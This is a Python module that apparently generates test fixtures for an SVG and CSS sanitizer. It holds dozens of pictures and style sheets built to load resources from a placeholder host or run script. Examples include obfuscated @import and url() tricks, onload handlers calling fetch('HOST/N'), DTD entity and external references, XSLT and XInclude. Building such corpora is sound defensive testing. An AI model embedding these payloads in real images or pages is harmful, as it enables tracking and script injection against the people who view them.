"""More pictures and style sheets that try to load a file or to act; ``HOST`` stands for a server."""

from __future__ import annotations

import base64

_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml"'
_BOX = '<rect id="box" width="9" height="9"/>'


def _svg(content: str, attributes: str = "") -> str:
    return f'<svg {_NS} width="20" height="20" {attributes}>{content}{_BOX}</svg>'


def _encoded(content: str) -> str:
    return base64.b64encode(content.encode()).decode()


FURTHER_CSS = {
    "import with a comment": '@import/**/"HOST/N";',
    "import in capitals": "@IMPORT URL(HOST/N);",
    "import behind a layer": '@layer a;@import "HOST/N" layer;',
    "import with a missing end": '@import "HOST/N"',
    "import behind marks of a comment": '<!-- @import "HOST/N"; -->',
    "import with every letter escaped": '@\\69\\6d\\70\\6f\\72\\74 "HOST/N";',
    "import with an escaped line end": '@import "HO\\\nST/N";'.replace("HO\\\nST", "\\\nHOST"),
    "font in a layer": '@layer a{@font-face{font-family:F;src:url("HOST/N")}text{font-family:F}}',
    "font by src": '@font-face{font-family:F;src:src("HOST/N")}text{font-family:F}',
    "font in a container": (
        "svg{container-type:inline-size}@container (width>0){@font-face{font-family:F;src:url(HOST/N)}}"
    ),
    "font with a range": '@font-face{font-family:F;src:url("HOST/N");unicode-range:U+0-10FFFF}text{font-family:F}',
    "url with arguments": 'rect{mask:url("HOST/N#a" crossorigin(anonymous))}',
    "url without an end in a string": 'rect{mask:url("HOST/N#a',
    "url with escaped slashes": "rect{mask:url(http:\\2f\\2fHOSTNAME/N#a)}",
    "url with an escaped dot": "rect,svg{background:url(HOST/\\4e)}",
    "url behind an important": "rect{fill:red!important;mask:url(HOST/N#a)!important}",
    "url in a fallback": "rect{mask:var(--none,url(HOST/N#a))}",
    "url in an environment": "rect,svg{background:env(none,url(HOST/N))}",
    "url in a condition": "rect,svg{background:if(style(--a):none;else:url(HOST/N))}",
    "url in a function of its own": "@function --f(){result:url(HOST/N)}rect,svg{background:--f()}",
    "url in a mixin": "@mixin --m{background:url(HOST/N)}svg{@apply --m}",
    "url by an attribute": "svg{background:attr(data-x type(<url>),url(HOST/N))}",
    "url beyond a closing bracket": "}rect,svg{background:url(HOST/N)}",
    "url behind a bad declaration": "svg{fill;;:;background:url(HOST/N)}",
    "image-set in image-set": 'rect,svg{background:image-set(image-set("HOST/N" 1x) 1x)}',
    "image-set with a type": 'rect,svg{background:image-set("HOST/N" type("image/png"))}',
    "image-set in capitals": 'rect,svg{background:IMAGE-SET("HOST/N" 1x)}',
    "webkit-image-set with a string": 'rect,svg{background:-webkit-image-set("HOST/N" 1x)}',
    "cross-fade of today": 'rect,svg{background:cross-fade(url("HOST/N"),red)}',
    "webkit-mask": "rect,svg{-webkit-mask:url(HOST/N);-webkit-mask-box-image:url(HOST/N) 9}",
    "mask-image in full": "rect,svg{mask-image:url(HOST/N);mask-border-source:url(HOST/N)}",
    "border-image-source": "svg{border:9px solid;border-image-source:url(HOST/N)}",
    "list-style-image": "svg{display:list-item;list-style-image:url(HOST/N)}",
    "offset path in full": "rect{offset:url(HOST/N#a) 9px;shape-outside:url(HOST/N)}",
    "webkit-filter": "rect,svg{-webkit-filter:url(HOST/N#a);backdrop-filter:url(HOST/N#a)}",
    "clip path of webkit": "rect,svg{-webkit-clip-path:url(HOST/N#a);clip-path:url(HOST/N#a)}",
    "cursors, two of them": "rect,svg{cursor:url(#none) 1 1,url(HOST/N) 2 2,auto}",
    "content with a text": 'svg::after{content:url(HOST/N)/"x"}',
    "content of a marker": "svg{display:list-item}svg::marker{content:url(HOST/N)}",
    "a first letter": "text::first-letter,text::first-line,text::selection{background:url(HOST/N)}",
    "a view transition": "::view-transition{background:url(HOST/N)}@view-transition{navigation:auto}",
    "a backdrop": "svg::backdrop,svg::file-selector-button{background:url(HOST/N)}",
    "a starting style": "@starting-style{rect,svg{background:url(HOST/N)}}svg{transition:all 1s}",
    "a scope": "@scope (svg) to (g){:scope{background:url(HOST/N)}}",
    "a registered image": '@property --y{syntax:"<url>";inherits:false;initial-value:url(HOST/N)}svg{mask:var(--y)}',
    "a palette": "@font-palette-values --p{font-family:F;base-palette:url(HOST/N)}",
    "a page": "@page{background:url(HOST/N);@top-left{content:url(HOST/N)}}",
    "a counter style": '@counter-style c{system:cyclic;symbols:url("HOST/N");prefix:url(HOST/N)}svg{list-style:c}',
    "behaviour of old": "svg{behavior:url(HOST/N);-moz-binding:url(HOST/N#a)}",
    "expression of old": "svg{width:expression(fetch('HOST/N'))}",
    "an escaped null": "rect{mask:url\\0(HOST/N#a);filter:url(HOST/N#b)}",
    "a letter of another plane": "rect,svg{--😀:1;background:url(HOST/N?😀)}",
    "another protocol": "rect,svg{background:url(\\68ttp://HOSTNAME/N)}",
    "three slashes": "rect,svg{background:url(http:///HOSTNAME/N)}",
    "a back slash": 'rect,svg{background:url("http:\\\\\\\\HOSTNAME/N")}',
    "a space of another kind before": 'rect{mask:url("\u00a0HOST/N#a");fill:url("\u3000#a")}',
    "a tab in the protocol": 'rect,svg{background:url("ht\\9 tp://HOSTNAME/N")}',
}
"""Style sheets, as they could stand in a picture's ``<style>`` or in a deck's ``theme.css``."""

_DATA = "data:image/svg+xml;base64," + _encoded(_svg('<image width="9" height="9" href="HOST/N"/>'))
_PERCENT = "data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22fetch('HOST/N')%22/%3E"

FURTHER_SVG = {
    "address behind a no-break space": _svg('<use href="&#160;#box"/><image width="9" height="9" href="&#160;#N"/>'),
    "address behind an ideographic space": _svg(
        '<image width="9" height="9" href="&#x3000;#N"/><a href="&#x2003;#N"><rect/></a>'
    ),
    "picture behind a no-break space": _svg(
        '<image width="9" height="9" href="&#160;data:image/png;base64,AAAA"/><image href="HOST/N"/>'
    ),
    "set to an address behind a space": _svg(
        '<image width="9" height="9" href="#x"><set attributeName="href" to="&#160;#N"/></image>'
    ),
    "fill behind a space": _svg('<path d="M0 0L9 9" fill="url(&#x3000;#N)" mask="url(\'&#160;#N\')"/>'),
    "data in data": _svg(
        '<image width="9" height="9" href="data:image/svg+xml;base64,{}"/>'.format(
            _encoded(_svg(f'<image width="9" height="9" href="{_DATA}"/>'))
        )
    ),
    "data by percent": _svg(f'<image width="9" height="9" href="{_PERCENT}"/>'),
    "data in capitals": _svg(f'<image width="9" height="9" href="{_DATA.replace("data:image", "DATA:IMAGE")}"/>'),
    "data with parameters": _svg(
        f'<image width="9" height="9" href="{_DATA.replace(";base64", ";charset=utf-8;base64")}"/>'
    ),
    "data of HTML": _svg('<image width="9" height="9" href="data:text/html,&lt;img src=HOST/N&gt;"/>'),
    "data of XHTML": _svg('<use href="data:application/xhtml+xml,&lt;x&gt;#a"/><image href="HOST/N"/>'),
    "data with a new line": _svg('<image width="9" height="9" href="da&#10;ta:text/html,HOST/N"/>'),
    "data in a filter": _svg(f'<filter id="f"><feImage href="{_DATA}"/></filter><rect filter="url(#f)" width="9"/>'),
    "data in a cursor": _svg(f"<rect width='9' height='9' cursor=\"url('{_DATA}'),auto\"/>"),
    "data in a style": _svg(f"<style>svg{{background:url('{_DATA}')}}</style>"),
    "data by xlink and by href": _svg(f'<image width="9" height="9" href="{_DATA}" xlink:href="HOST/N"/>'),
    "protocol with a tab": _svg('<image width="9" height="9" href="ht&#9;tp://HOSTNAME/N"/>'),
    "protocol of another case": _svg('<image width="9" height="9" href="HtTp://HOSTNAME/N"/>'),
    "no protocol": _svg('<image width="9" height="9" href="//HOSTNAME/N"/>'),
    "back slashes": _svg('<image width="9" height="9" href="\\\\HOSTNAME/N"/>'),
    "a fragment first": _svg('<image width="9" height="9" href="HOST/N#box"/><use href="?N#box"/>'),
    "an empty address": _svg('<image width="9" height="9" href=""/><use href=""/>', 'xml:base="HOST/N"'),
    "xlink of another prefix": _svg('<image xmlns:q="http://www.w3.org/1999/xlink" width="9" q:href="HOST/N"/>'),
    "xlink of old": _svg('<image xmlns:q="http://www.w3.org/1999/xlink/" width="9" q:href="HOST/N" href="HOST/N"/>'),
    "base of the whole": _svg('<image width="9" height="9" href="#N"/><use href="#box"/>', 'xml:base="HOST/"'),
    "base in HTML": _svg('<h:base href="HOST/"/><use href="#box"/><rect fill="url(#a)" width="9" height="9"/>'),
    "animated style": _svg('<rect width="9"><animate attributeName="style" values="mask:url(HOST/N#a)"/></rect>'),
    "animated class": _svg(
        '<rect width="9"><set attributeName="class" to="x"/></rect><style>.x{mask:url(HOST/N)}</style>'
    ),
    "animated base": _svg('<use href="#box"><set attributeName="xml:base" to="HOST/N"/></use>'),
    "animated target": _svg('<a href="#box"><set attributeName="target" to="HOST/N"/><rect width="9" height="9"/></a>'),
    "animated from a sync": _svg('<set href="#box" begin="0s;i.end" attributeName="fill" to="url(HOST/N#a)"/>'),
    "animated by a key": _svg(
        '<rect width="9"><set begin="accessKey(a)" attributeName="mask" to="url(HOST/N#a)"/></rect>'
    ),
    "motion along a path of elsewhere": _svg(
        '<rect width="9"><animateMotion><mpath xlink:href="HOST/N#a"/></animateMotion></rect>'
    ),
    "motion with handlers": _svg("<rect><animateMotion path='M0 0' onend=\"fetch('HOST/N')\" dur='1s'/></rect>"),
    "transform with handlers": _svg("<animateTransform attributeName='x' onrepeat=\"fetch('HOST/N')\" dur='1s'/>"),
    "handler in capitals": _svg("<g ONLOAD=\"fetch('HOST/N')\" onLoad=\"fetch('HOST/N')\"/>"),
    "handler of a prefix": _svg("<g h:onload=\"fetch('HOST/N')\" xlink:onload=\"fetch('HOST/N')\"/>"),
    "handler of focus": _svg(
        '<g tabindex="0" onfocus="fetch(\'HOST/N\')" autofocus=""/>', "onfocusin=\"fetch('HOST/N')\""
    ),
    "handler of resize": _svg(
        "", "onresize=\"fetch('HOST/N')\" onscroll=\"fetch('HOST/N')\" onunload=\"fetch('HOST/N')\""
    ),
    "handler of XML events": _svg(
        '<x:listener xmlns:x="http://www.w3.org/2001/xml-events" event="load" handler="HOST/N#a"/>'
    ),
    "script of a type": _svg('<script type="module">import "HOST/N"</script>'),
    "script of a map": _svg('<script type="importmap">{"imports":{"a":"HOST/N"}}</script>'),
    "script of rules": _svg(
        '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["HOST/N"]}]}</script>'
    ),
    "script of ECMA": _svg('<script type="application/ecmascript"><![CDATA[fetch("HOST/N")]]></script>'),
    "script in HTML's namespace": _svg('<script xmlns="http://www.w3.org/1999/xhtml" src="HOST/N"/>'),
    "script in a symbol": _svg("<symbol id='s'><script>fetch('HOST/N')</script></symbol><use href='#s'/>"),
    "script in a title": _svg(
        "<title><h:script>fetch('HOST/N')</h:script></title><desc><script>fetch('HOST/N')</script></desc>"
    ),
    "script in defs": _svg("<defs><script xlink:href='data:text/javascript,fetch(%22HOST/N%22)'/></defs>"),
    "script from an entity": '<!DOCTYPE svg [<!ENTITY s "fetch(1)">]>'
    + _svg("<script>&s;</script><image href='HOST/N'/>"),
    "namespace by an entity": '<!DOCTYPE svg [<!ENTITY n "http://www.w3.org/1999/xhtml">]>'
    + _svg('<q:img xmlns:q="&n;" src="HOST/N"/>'),
    "namespace by default": '<!DOCTYPE svg [<!ATTLIST x xmlns CDATA "http://www.w3.org/1999/xhtml">]>'
    + _svg('<x><img src="HOST/N"/></x>'),
    "notation and entity": '<!DOCTYPE svg [<!NOTATION n SYSTEM "HOST/N"><!ENTITY e SYSTEM "HOST/N" NDATA n>]>'
    + _svg(""),
    "public rules": '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "HOST/N">' + _svg(""),
    "entity in an attribute": '<!DOCTYPE svg [<!ENTITY u "url(HOST/N#a)">]>' + _svg('<rect mask="&u;" width="9"/>'),
    "entity in a style": '<!DOCTYPE svg [<!ENTITY u "url(HOST/N#a)">]>' + _svg("<style>rect{mask:&u;}</style>"),
    "style sheet behind the root": _svg("") + '<?xml-stylesheet href="HOST/N"?>',
    "style sheet within": _svg('<?xml-stylesheet href="HOST/N" type="text/css"?>'),
    "style sheet of data": f'<?xml-stylesheet href="data:text/css,@import%20%27HOST/N%27;"?>{_svg("")}',
    "style sheet in itself": '<?xml-stylesheet type="text/xml" href="#x"?>'
    + _svg(
        '<x:stylesheet id="x" xmlns:x="http://www.w3.org/1999/XSL/Transform" version="1.0"><x:template match="/">'
        '<h:img src="HOST/N"/></x:template></x:stylesheet>'
    ),
    "instruction of old": '<?import namespace="t" implementation="HOST/N"?>' + _svg("<?php echo 1 ?>"),
    "inclusion": _svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="HOST/N"/>'),
    "style in a nested drawing": _svg('<svg><style>@import "HOST/N";</style><svg style="mask:url(HOST/N#a)"/></svg>'),
    "style with a CDATA in parts": _svg("<style>rect{mask:u<![CDATA[rl(HOST/N#a)]]>}</style>"),
    "style around an instruction": _svg("<style>rect{mask:u<?x?>rl(HOST/N#a)}</style>"),
    "style of another type": _svg('<style type="text/x-other">@import "HOST/N";</style>'),
    "style with a title": _svg('<style title="a" media="screen">@import url("HOST/N");</style>'),
    "style in capitals": _svg('<STYLE>@import "HOST/N";</STYLE><h:STYLE>@import "HOST/N";</h:STYLE>'),
    "style element of a prefix": (
        '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:style>@import "HOST/N";</s:style></s:svg>'
    ),
    "style attribute of a prefix": _svg('<g h:style="mask:url(HOST/N#a)" xml:style="mask:url(HOST/N)"/>'),
    "MathML with a link": _svg(
        '<m:math xmlns:m="http://www.w3.org/1998/Math/MathML" href="javascript:fetch(\'HOST/N\')"><m:annotation-xml'
        ' encoding="text/html"><h:img src="HOST/N"/></m:annotation-xml></m:math>'
    ),
    "MathML with an image": _svg('<m:mglyph xmlns:m="http://www.w3.org/1998/Math/MathML" src="HOST/N"/>'),
    "HTML template": _svg('<h:template shadowrootmode="open"><h:img src="HOST/N"/></h:template>'),
    "HTML portal": _svg('<h:portal src="HOST/N"/><h:frame src="HOST/N"/><h:fencedframe src="HOST/N"/>'),
    "HTML applet": _svg('<h:applet code="HOST/N"/><h:bgsound src="HOST/N"/><h:image src="HOST/N"/>'),
    "HTML pre-connection": _svg('<h:link rel="modulepreload" href="HOST/N"/><h:link rel="manifest" href="HOST/N"/>'),
    "HTML policy": _svg('<h:meta http-equiv="Content-Security-Policy" content="default-src x; report-uri HOST/N"/>'),
    "HTML marquee": _svg("<h:marquee onstart=\"fetch('HOST/N')\">x</h:marquee>"),
    "HTML popover": _svg('<h:dialog open="" onbeforetoggle="fetch(\'HOST/N\')"><h:img src="HOST/N"/></h:dialog>'),
    "font of a drawing": _svg(
        '<font-face font-family="F"><font-face-src><font-face-uri href="HOST/N"/></font-face-src></font-face>'
        '<text font-family="F">x</text>'
    ),
    "glyph of elsewhere": _svg('<text><altGlyph xlink:href="HOST/N#a">x</altGlyph><glyphRef href="HOST/N#a"/></text>'),
    "mesh of elsewhere": _svg(
        '<meshgradient id="m" href="HOST/N#a"/><hatch href="HOST/N#a"/><solidColor href="HOST/N"/>'
    ),
    "view of elsewhere": _svg(
        '<view id="v" viewTarget="HOST/N"/><a href="HOST/N#svgView(1)" target="_top"><rect/></a>'
    ),
    "filter of elsewhere": _svg(
        '<filter id="f" href="HOST/N#a"/><rect filter="url(#f) url(HOST/N#b)" width="9" height="9"/>'
    ),
    "marker in short": _svg('<path d="M0 0L9 9L0 9" style="marker:url(HOST/N#a);-webkit-mask:url(HOST/N)"/>'),
    "fill with a fallback": _svg('<path d="M0 0L9 9L0 9" fill="url(HOST/N#a) red" stroke="url(HOST/N#a) none"/>'),
    "text with shapes": _svg('<text style="shape-inside:url(HOST/N#a);shape-subtract:url(HOST/N#b)">x</text>'),
}
"""SVG files."""


def further_pictures() -> dict[str, bytes]:
    """Return the SVG files by their names."""
    made = {f"further {name}": text for name, text in FURTHER_SVG.items()}
    made |= {f"further css {name}": _svg(f"<style><![CDATA[{css}]]></style>") for name, css in FURTHER_CSS.items()}
    for name, css in FURTHER_CSS.items():
        inside = css.partition("{")[2].rpartition("}")[0].replace('"', "'")
        if css.startswith(("rect", "svg")) and inside:
            made[f"further style {name}"] = _svg(f'<path d="M0 0L9 9" style="{inside}"/>')
    return {name: text.encode() for name, text in made.items()}
